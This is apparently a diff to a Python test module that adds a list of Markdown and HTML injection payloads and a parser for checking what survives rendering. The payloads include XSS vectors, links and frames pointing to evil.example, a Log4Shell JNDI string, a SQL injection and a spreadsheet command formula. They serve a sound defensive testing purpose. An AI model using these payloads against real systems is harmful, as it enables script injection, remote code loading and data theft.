@@ -2,9 +2,13 @@
 
 from __future__ import annotations
 
+from html.parser import HTMLParser
+
+from markdown_it import MarkdownIt
+
 CANARY = "document.documentElement.setAttribute('data-owned','1')"
 
-PAYLOADS = (
+PAGE_PAYLOADS = (
     f"<script>{CANARY}</script>",
     f"<ScRiPt>{CANARY}</sCrIpT>",
     f"</script><script>{CANARY}</script>",
@@ -70,3 +74,106 @@ PAYLOADS = (
     "%2e%2e/%00 ?query#fragment",
     "漢字 שלום \u202ereversed\u202c \x1b[31mred\x07",
 )
+"""Mostly for HTML."""
+
+MARKDOWN_PAYLOADS = (
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "<svg/onload=alert(1)>",
+    "<iframe src=//evil.example>",
+    "<a href='javascript:alert(1)'>x</a>",
+    "</code></pre><script>alert(1)</script>",
+    "<!-- --><b>x</b>",
+    "<!--",
+    "-->",
+    "<![CDATA[x]]>",
+    "<?php echo 1 ?>",
+    "<style>*{display:none}</style>",
+    "<base href=//evil.example>",
+    "<meta http-equiv=refresh content=0>",
+    "<details open ontoggle=alert(1)>",
+    "&lt;script&gt;",
+    "&#60;script&#62;",
+    "&amp;lt;",
+    "[x](javascript:alert(1))",
+    "[x](//evil.example)",
+    "![x](http://evil.example/pixel.png)",
+    "![x][y]",
+    "[y]: http://evil.example",
+    "<http://evil.example>",
+    "http://evil.example/x?a=1&b=2",
+    "www.evil.example",
+    "WWW.evil.example",
+    "someone@evil.example",
+    "@someone look",
+    "#1 is an issue",
+    "`code`",
+    "``` \n<script>",
+    "~~~\nx",
+    "~~gone~~",
+    "*bold* **bold** ***bold***",
+    "_under_ __under__",
+    "a_b_c __init__",
+    "a|b|c",
+    "|---|",
+    "\\",
+    "\\\\`",
+    "\\<b>",
+    "a\nb",
+    "a\r\n\r\n# heading",
+    "\n---\n",
+    "\n\n- item",
+    "\n    indented code",
+    "a\u2028b\u2029c",
+    "a\x00b",
+    "\x1b[2Jx",
+    "\u202eevil\u202c",
+    "$x^2$ and $$y$$",
+    ":smile: :warning:",
+    "{{ template }} {% raw %}",
+    "${jndi:ldap://evil.example}",
+    "'; DROP TABLE x; --",
+    '" onmouseover="alert(1)',
+    "=cmd|'/c calc'!A1",
+    "日本語 ü 😀",
+    "\ud800 lone",
+    "x" * 5000,
+    "1. first",
+)
+
+PAYLOADS = (*PAGE_PAYLOADS, *MARKDOWN_PAYLOADS)
+
+
+def on_one_line(payload: str) -> str:
+    """What may be seen of it."""
+    return " ".join("".join(each for each in payload if each.isprintable() or each.isspace()).split())
+
+
+class Seen(HTMLParser):
+    """What a browser would make of a page."""
+
+    def __init__(self) -> None:
+        super().__init__(convert_charrefs=True)
+        self.tags: set[str] = set()
+        self.attributes: list[tuple[str, str | None]] = []
+        self.text = ""
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.tags.add(tag)
+        self.attributes += attrs
+
+    def handle_data(self, data: str) -> None:
+        self.text += data
+
+    def handle_comment(self, data: str) -> None:
+        self.tags.add(f"comment {data}")
+
+    def handle_decl(self, decl: str) -> None:
+        self.tags.add(f"declaration {decl}")
+
+
+def seen(markdown: str) -> Seen:
+    page = Seen()
+    page.feed(MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"]).render(markdown))
+    page.close()
+    return page
